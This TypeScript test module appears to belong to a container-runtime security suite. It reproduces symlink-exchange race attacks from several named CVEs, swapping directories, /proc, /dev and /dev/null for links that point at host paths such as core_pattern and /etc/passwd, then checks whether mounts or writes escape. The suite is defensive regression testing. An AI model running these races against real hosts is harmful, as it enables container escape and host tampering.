// A runtime and an attacker who changes the container's root while it is made.

import { existsSync, mkdirSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import type { Config } from "../../oci/config.ts";
import { whileExchanged } from "../attacker.ts";
import type { Canary } from "../canary.ts";
import { type Outcome, type Row, unless } from "../outcome.ts";
import type { Made, RuntimeWorld } from "../runtime.ts";
import { tally } from "../ways-out.ts";

type Race = {
  readonly root: string;
  readonly canary: Canary;
  readonly pairs: readonly (readonly [string, string])[];
  readonly change: (config: Config) => void;
  /** What is wrong with a container that was made; undefined: nothing. */
  readonly judge: (made: Made) => string | undefined;
};

/** Makes containers while the attacker is at work. */
async function race(world: RuntimeWorld, of: Race): Promise<Outcome> {
  const findings: string[] = [];
  let made = 0;
  let refused = 0;
  const exchanges = await whileExchanged(of.pairs, () => {
    for (let i = 0; i < world.tries && findings.length === 0; i++) {
      const container = world.create(of.root, of.change);
      if (typeof container === "string") {
        refused++;
      } else {
        const finding = world.isThere(container) ? of.judge(container) : null;
        if (finding === null || !world.isThere(container)) {
          refused++; // its process ended by itself
        } else {
          made++;
          if (finding !== undefined) findings.push(finding);
        }
        world.drop(container);
      }
      findings.push(...of.canary.changes());
    }
  });
  return unless(findings, `${tally(made, refused)}; ${exchanges} exchanges`);
}

const bind = (source: string, destination: string, ...options: string[]) => ({
  source,
  destination,
  type: "bind",
  options: ["rbind", "rw", ...options],
});

/** What this kernel has of what engines have masked. */
const masked = ["/proc/keys", "/proc/timer_list", "/proc/kcore", "/proc/sysrq-trigger"].filter(
  (path) => existsSync(path),
);

export const races: readonly Row<RuntimeWorld>[] = [
  {
    ids: ["CVE-2021-30465", "CVE-2024-45310"],
    title: "the target of a mount becomes a link between the look and the mount",
    tried:
      "a directory on the way is exchanged with a link out: every mount is inside, nothing is made outside",
    run: (world) => {
      const canary = world.canary();
      const root = world.root({ other: canary.path });
      mkdirSync(`${root}/way/deep`, { recursive: true });
      const shown = world.fresh("shown");
      mkdirSync(shown);
      const targets = ["deep", "new", "new/deeper", "a/b", "a/c", "d", "e"];
      return race(world, {
        root,
        canary,
        pairs: [[`${root}/way`, `${root}/other`]],
        change: (config) => {
          for (const name of targets) config.mounts.push(bind(shown, `/way/${name}`));
        },
        judge: (made) => {
          const mounts = world
            .mounts(made)
            .filter(({ root: from }) => from.endsWith(shown.split("/").at(-1) ?? ""));
          return mounts.length === targets.length
            ? undefined
            : `${targets.length - mounts.length} of ${targets.length} mounts went elsewhere`;
        },
      });
    },
  },
  {
    ids: ["CVE-2021-30465 (b)"],
    title: "the target climbs out by `..` of a directory that is moved",
    tried: "a deep directory and a shallow one are exchanged while a target with `..` is looked up",
    run: (world) => {
      const canary = world.canary();
      const root = world.root();
      mkdirSync(`${root}/one/two/three/four`, { recursive: true });
      mkdirSync(`${root}/flat`);
      symlinkSync("../../../../..", `${root}/one/two/three/four/up`);
      symlinkSync("..", `${root}/flat/up`);
      const shown = world.fresh("shown");
      mkdirSync(shown);
      return race(world, {
        root,
        canary,
        pairs: [[`${root}/one/two/three/four`, `${root}/flat`]],
        change: (config) => {
          for (const name of ["x", "y", canary.path.slice(1)]) {
            config.mounts.push(bind(shown, `/one/two/three/four/up/${name}`));
          }
        },
        judge: (made) => {
          const count = world
            .mounts(made)
            .filter(({ root: from }) => from.endsWith(shown.split("/").at(-1) ?? "")).length;
          return count === 3 ? undefined : `${3 - count} of 3 mounts went elsewhere`;
        },
      });
    },
  },
  {
    ids: ["CVE-2019-19921"],
    title: "/proc becomes a link while it is mounted",
    tried: "/proc is exchanged with a link out and with a directory within",
    run: async (world) => {
      const canary = world.canary();
      const root = world.root({ other: canary.path });
      return race(world, {
        root,
        canary,
        pairs: [[`${root}/proc`, `${root}/other`]],
        change: (config) => {
          config.linux["maskedPaths"] = masked;
          config.linux["readonlyPaths"] = ["/proc/sys"];
        },
        judge: (made) => {
          // A mount stays on the directory, by whichever name that goes now.
          const mounts = world.mounts(made);
          const proc = mounts.filter(({ type, root: from }) => type === "proc" && from === "/");
          if (proc.length !== 1) return `${proc.length} procfs are mounted`;
          const at = proc[0]?.at ?? "";
          if (!["/proc", "/other"].some((end) => at.endsWith(end))) return `it is mounted on ${at}`;
          const covers = mounts
            .filter(({ parent }) => parent === proc[0]?.id)
            .map((each) => each.at);
          // Names change from line to line of the table: who is mounted on whom does not.
          const isReadOnly = mounts.some(
            ({ at: there, flags, parent }) =>
              parent === proc[0]?.id && there.endsWith("/sys") && flags.includes("ro"),
          );
          if (!isReadOnly) return `its /sys is not read-only: ${covers.join(" ")}`;
          return covers.length < masked.length + 1
            ? `of its masks there are ${covers.join(" ")}`
            : undefined;
        },
      });
    },
  },
  {
    ids: ["CVE-2026-41579 (race)"],
    title: "/dev becomes a link while devices are made",
    tried: "/dev is exchanged with a link out; the devices are the root's own",
    run: (world) => {
      const canary = world.canary();
      const root = world.root({ other: canary.path });
      return race(world, {
        root,
        canary,
        pairs: [[`${root}/dev`, `${root}/other`]],
        change: (config) => {
          config.mounts = config.mounts.filter(({ destination }) => destination === "/proc");
        },
        judge: () => undefined,
      });
    },
  },
  {
    ids: ["CVE-2025-31133", "CVE-2025-62161"],
    title: "/dev/null becomes a link while paths are masked: its target is laid open instead",
    tried: "/dev/null of a shared /dev is exchanged with a link; each mask is the null device",
    run: (world) => {
      const canary = world.canary();
      const root = world.root();
      const dev = world.fresh("dev");
      mkdirSync(dev);
      world.command(["mknod", "-m", "666", `${dev}/null`, "c", "1", "3"]);
      // What would be laid open on a machine that is worth it: here it is only looked at.
      symlinkSync("/proc/sys/kernel/core_pattern", `${dev}/link`);
      return race(world, {
        root,
        canary,
        pairs: [[`${dev}/null`, `${dev}/link`]],
        change: (config) => {
          config.mounts = config.mounts.filter(({ destination }) => destination === "/proc");
          config.mounts.push(bind(dev, "/dev"));
          config.linux["maskedPaths"] = masked;
        },
        judge: (made) => {
          const bad = masked
            .map((path) => `/proc/${made.pid}/root${path}`)
            .filter((path) => {
              const { rdev, mode } = statSync(path);
              return (mode & 0o170000) !== 0o20000 || rdev !== 0x103;
            });
          return bad.length === 0
            ? undefined
            : `${bad.map((path) => path.replace(/^.*\/root/, "")).join(", ")} is not the null device`;
        },
      });
    },
  },
  {
    ids: ["CVE-2025-52565"],
    title: "/dev/pts/N becomes a link while it is bound to /dev/console",
    tried:
      "/dev/pts is a directory of the attacker's, of links: /dev/console is a terminal, or there is none",
    run: (world) => {
      const canary = world.canary();
      const root = world.root();
      const findings: string[] = [];
      let made = 0;
      let refused = 0;
      const targets = [`${canary.path}/file`, "/proc/sys/kernel/core_pattern", "/etc/passwd"];
      // In place of the devpts, and on top of it.
      for (const [target, isOver] of targets.flatMap((each) => [
        [each, false] as const,
        [each, true] as const,
      ])) {
        const pts = world.fresh("pts");
        mkdirSync(pts);
        for (let i = 0; i < 10; i++) symlinkSync(target, `${pts}/${i}`);
        symlinkSync(target, `${pts}/ptmx`);
        const socket = world.consoleSocket();
        const container = world.create(
          root,
          (config) => {
            config.process["terminal"] = true;
            config.mounts = config.mounts.filter(
              ({ destination }) => isOver || destination !== "/dev/pts",
            );
            config.mounts.push(bind(pts, "/dev/pts"));
          },
          ["--console-socket", socket.path],
        );
        socket.close();
        if (typeof container === "string") {
          refused++;
          continue;
        }
        made++;
        const at = world.mounts(container).filter((mount) => mount.at.endsWith("/dev/console"));
        if (at.some(({ type }) => type !== "devpts")) {
          findings.push(
            `/dev/console is ${at.map(({ type, root: of }) => `${type} ${of}`).join()}`,
          );
        }
        world.drop(container);
      }
      return unless([...canary.changes(), ...findings], tally(made, refused));
    },
  },
  {
    ids: ["GHSA-3q8j-pf29-vwv8"],
    title: "masked and read-only paths are set by name, elsewhere or not at all",
    tried:
      "a directory on the way is exchanged with a link to its like: each path is covered, once",
    run: (world) => {
      const canary = world.canary();
      const root = world.root({ other: "/like" });
      for (const name of ["way", "like"]) {
        for (const part of ["a", "b", "c"]) {
          mkdirSync(`${root}/${name}/${part}`, { recursive: true });
          writeFileSync(`${root}/${name}/${part}/file`, "");
        }
      }
      return race(world, {
        root,
        canary,
        pairs: [[`${root}/way`, `${root}/other`]],
        change: (config) => {
          config.linux["readonlyPaths"] = ["/way/a", "/way/b"];
          config.linux["maskedPaths"] = ["/way/c", "/way/c/file", "/way/a/file"];
        },
        judge: (made) => {
          const covers = world
            .mounts(made)
            .filter(({ at }) => /\/(way|like|other)\/[abc](\/file)?$/.test(at));
          const readOnly = covers.filter(
            ({ at, flags }) => /\/[ab]$/.test(at) && flags.includes("ro"),
          );
          const names = covers.map(({ at }) => at.replace(/^.*\/(way|like|other)/, "")).join(" ");
          if (readOnly.length !== 2) return `read-only are ${readOnly.length} of 2 paths: ${names}`;
          return covers.length < 4 ? `covered is no more than ${names}` : undefined;
        },
      });
    },
  },
  {
    ids: ["CVE-2025-52881"],
    title: "what the runtime writes to /proc goes to another file of it",
    tried:
      "the volume at /proc/sys/kernel is exchanged with links while a parameter is set: in force, or refused",
    run: (world) => {
      const canary = world.canary();
      const root = world.root();
      const before = world.read("/proc/sys/kernel/core_pattern");
      const volume = world.fresh("volume");
      mkdirSync(`${volume}/real`, { recursive: true });
      writeFileSync(`${volume}/real/domainname`, "");
      mkdirSync(`${volume}/evil`);
      symlinkSync(`${canary.path}/file`, `${volume}/evil/domainname`);
      return race(world, {
        root,
        canary,
        pairs: [[`${volume}/real`, `${volume}/evil`]],
        change: (config) => {
          config.mounts.push(bind(`${volume}/real`, "/proc/sys/kernel"));
          config.linux["sysctl"] = { "kernel.domainname": "as-asked" };
        },
        judge: (made) => {
          if (world.read("/proc/sys/kernel/core_pattern") !== before)
            return "the host's was changed";
          const { domainname } = world.seenBy(made);
          return domainname === "as-asked" ? undefined : `the parameter was not set: ${domainname}`;
        },
      });
    },
  },
];
